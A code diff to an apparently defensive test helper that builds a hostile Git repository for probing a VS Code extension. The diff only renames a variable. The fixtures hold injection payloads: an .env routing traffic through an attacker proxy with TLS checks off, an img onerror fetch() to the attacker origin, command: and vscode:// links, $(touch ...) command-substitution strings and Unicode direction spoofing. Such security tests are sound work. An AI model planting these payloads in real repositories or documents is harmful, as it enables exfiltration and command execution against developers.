@@ -78,16 +78,16 @@ export interface HostileOptions {
 /** Creates the repository in a folder, which may contain files. */
 export function makeHostileRepository(
   folder: string,
-  { attackerOrigin: evil, markerFolder: marks, secret, identifier }: HostileOptions,
+  { attackerOrigin, markerFolder: marks, secret, identifier }: HostileOptions,
 ): GitRepository {
   mkdirSync(marks, { recursive: true });
   const markerPath = (name: string): string => join(marks, name);
   const program = writeProgram(marks, 'program');
   const shell = writeProgram(marks, 'vscode-shell');
   const repository = GitRepository.createEmpty(folder);
-  repository.write('.vscode/settings.json', JSON.stringify(hostileSettings(evil, program, shell)));
-  writePrograms(repository, evil, program, markerPath);
-  writeText(repository, { attackerOrigin: evil, markerFolder: marks, secret, identifier });
+  repository.write('.vscode/settings.json', JSON.stringify(hostileSettings(attackerOrigin, program, shell)));
+  writePrograms(repository, attackerOrigin, program, markerPath);
+  writeText(repository, { attackerOrigin, markerFolder: marks, secret, identifier });
   writeLinks(folder, join(marks, '..', 'outside'), secret, identifier);
   repository.commit(`Begin\n\n[${identifier}](command:contrail.signOut) $(touch ${markerPath('message')})`);
   writeConfiguration(repository, markerPath);
@@ -143,17 +143,17 @@ function writePrograms(
 
 function writeText(
   repository: GitRepository,
-  { attackerOrigin: evil, markerFolder: marks, secret, identifier }: HostileOptions,
+  { attackerOrigin, markerFolder: marks, secret, identifier }: HostileOptions,
 ): void {
   repository.write(
     '.env',
-    `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${evil}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
+    `PLANE_API_KEY=${secret}\nHTTPS_PROXY=${attackerOrigin}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nTICKET=${identifier}\n`,
   );
   const text = [
     `# ${identifier}](command:contrail.signOut) and [${identifier}](command:workbench.action.terminal.new)`,
-    `${identifier}<img src="${evil}/${identifier}.png" onerror="fetch('${evil}')">`,
-    `![${identifier}](${evil}/pixel.png) <a href="command:workbench.action.quit">${identifier}</a>`,
-    `vscode://contrail.contrail/open?server=${evil}&workspace=acme&item=${identifier}`,
+    `${identifier}<img src="${attackerOrigin}/${identifier}.png" onerror="fetch('${attackerOrigin}')">`,
+    `![${identifier}](${attackerOrigin}/pixel.png) <a href="command:workbench.action.quit">${identifier}</a>`,
+    `vscode://contrail.contrail/open?server=${attackerOrigin}&workspace=acme&item=${identifier}`,
     `TODO(${identifier}): $(touch ${join(marks, 'text')}) \`touch ${join(marks, 'text')}\``,
     `$(${identifier}) \${command:contrail.signOut} {{${identifier}}} \u202e${identifier}\u202c`,
     '',
